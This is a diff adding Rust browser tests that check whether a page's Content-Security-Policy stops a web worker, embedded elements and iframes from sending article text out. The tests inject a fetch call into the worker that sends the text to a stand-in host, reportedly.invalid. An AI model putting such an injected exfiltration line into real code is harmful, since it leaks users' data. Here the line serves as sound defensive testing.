@@ -1,0 +1,83 @@
+//! "Nothing is uploaded": the browser itself holds it, wherever the text is, in the engine's worker too.
+
+use reportedly_tests::{Page, Visit};
+
+use crate::elements::{inside, page_of, page_with};
+use crate::texts::read_ferry;
+
+/// A link to a short text.
+const LINK: &str = include_str!("../links/1-article.link");
+
+/// The worker of somebody who wants the article.
+fn leaking(script: &str) -> String {
+    let leaking = script.replacen(
+        "const { text, rules } = wanted;",
+        "const { text, rules } = wanted; fetch('http://reportedly.invalid/?' + encodeURIComponent(text)).catch(() => {});",
+        1,
+    );
+    assert_ne!(leaking, script, "the worker takes the text that is wanted");
+    leaking
+}
+
+async fn no_article_leaves(page: &Page) {
+    // What a worker asks for is on its way a moment later.
+    tokio::time::sleep(std::time::Duration::from_millis(500)).await;
+    assert_eq!(page.asked_of_others(), Vec::<String>::new());
+    let refused = async || page.console().await.iter().any(|line| line.contains("reportedly.invalid")).then_some(());
+    page.wait_until("the browser's refusal on the console", refused).await;
+}
+
+#[test]
+fn a_worker_that_would_send_the_article_away_cannot() {
+    Visit::of_the_build().with_changed("engine-worker.js", leaking).run(async |page| {
+        read_ferry(page).await;
+        no_article_leaves(page).await;
+    });
+}
+
+#[test]
+fn in_a_page_without_a_policy_it_could() {
+    let without = |page: &str| {
+        let (before, rest) = page.split_once("<meta http-equiv=\"Content-Security-Policy\"").expect("it has a policy");
+        [before, rest.split_once('>').expect("a tag ends").1].concat()
+    };
+    let visit = Visit::of_the_build().with_changed("engine-worker.js", leaking).with_changed("index.html", without);
+    visit.run(async |page| {
+        read_ferry(page).await;
+        page.wait_until("the article's way", async || page.asked_of_others().first().cloned()).await;
+    });
+}
+
+#[test]
+fn an_element_s_worker_is_under_the_policy_of_the_page_around_it() {
+    page_with(|page| page).with_changed("embed/engine-worker.js", leaking).run(async |page| {
+        let marks = async || inside::<u32>(page, "return root?.querySelectorAll('mark').length ?? 0").await;
+        page.wait_until("marks", async || (marks().await > 5).then_some(())).await;
+        no_article_leaves(page).await;
+    });
+}
+
+#[test]
+fn a_frame_s_worker_is_under_the_policy_of_the_frame() {
+    let frame = format!("<iframe src=\"embed/embed.html#{}\" width=600 height=600></iframe>", LINK.trim());
+    page_of(&frame, "").with_changed("embed/engine-worker.js", leaking).run(async |page| {
+        let text = "return document.querySelector('iframe').contentDocument?.querySelector('reportedly-text')?.text ?? ''";
+        let shown = async || page.script::<String>(text, Vec::new()).await;
+        page.wait_until("the frame's text", async || (!shown().await.is_empty()).then_some(())).await;
+        let marked = "return document.querySelector('iframe').contentDocument.querySelector('reportedly-text').getAnnotations().then(all => all.length)";
+        assert!(page.script::<u32>(marked, Vec::new()).await > 3);
+        no_article_leaves(page).await;
+    });
+}
+
+#[test]
+fn the_worker_itself_asks_for_nothing() {
+    Visit::of_the_build().run(async |page| {
+        read_ferry(page).await;
+        let by_the_page = "return performance.getEntriesByType('resource').map(({ name }) => new URL(name).pathname)";
+        let asked: Vec<String> = page.script(by_the_page, Vec::new()).await;
+        for file in ["engine-worker.js", "engine_bg.wasm", "engine.words", "news.model"] {
+            assert!(asked.iter().any(|path| path.ends_with(file)), "{file} came to the page: {asked:?}");
+        }
+    });
+}
